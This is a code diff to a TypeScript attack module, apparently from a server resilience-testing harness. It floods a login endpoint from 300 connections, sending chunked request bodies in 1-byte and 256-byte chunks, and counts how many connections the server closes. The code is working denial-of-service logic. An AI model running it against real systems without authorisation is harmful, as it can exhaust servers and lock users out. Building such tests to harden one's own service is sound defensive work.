@@ -2,21 +2,23 @@ import { defineAttack } from './attack.ts';
 import { openConnection, rawRequest } from './raw-connection.ts';
 
 const CONNECTIONS = 300;
-/** Chunks per request, each with one byte. */
-const CHUNKS = 250_000;
+/** Bytes of a request. */
+const LENGTH = 1_500_000;
+/** Sizes of chunks: the smallest one, and the smallest one that is allowed. */
+const SIZES = [1, 256];
 const PIECE = 64 * 1024;
 
-/** Sends JSON bodies in chunks of one byte. */
+/** Sends bodies in chunks that cost more time than their bytes. */
 export const tinyChunks = defineAttack({
-  summary: '300 anonymous connections send bodies in chunks of one byte',
+  summary: '300 anonymous connections send bodies in very small chunks',
   async run(target) {
     const { signal } = target;
     const headers = { 'content-type': 'application/json', 'transfer-encoding': 'chunked' };
     const head = rawRequest('/api/users/login', headers, 'POST');
-    const body = Buffer.from('1\r\na\r\n'.repeat(CHUNKS));
+    const bodies = SIZES.map(chunked);
     let closed = 0;
 
-    async function attackFromOneConnection(): Promise<void> {
+    async function attackFromOneConnection(body: Buffer): Promise<void> {
       while (!signal.aborted) {
         const socket = openConnection(target).resume();
         const closing = new Promise((resolve) => socket.once('close', resolve));
@@ -31,7 +33,17 @@ export const tinyChunks = defineAttack({
       }
     }
 
-    await Promise.all(Array.from({ length: CONNECTIONS }, attackFromOneConnection));
+    const perSize = CONNECTIONS / SIZES.length;
+    await Promise.all(
+      bodies.flatMap((body) =>
+        Array.from({ length: perSize }, () => attackFromOneConnection(body)),
+      ),
+    );
     return { closed };
   },
 });
+
+function chunked(size: number): Buffer {
+  const chunk = `${size.toString(16)}\r\n${'a'.repeat(size)}\r\n`;
+  return Buffer.from(chunk.repeat(LENGTH / chunk.length));
+}
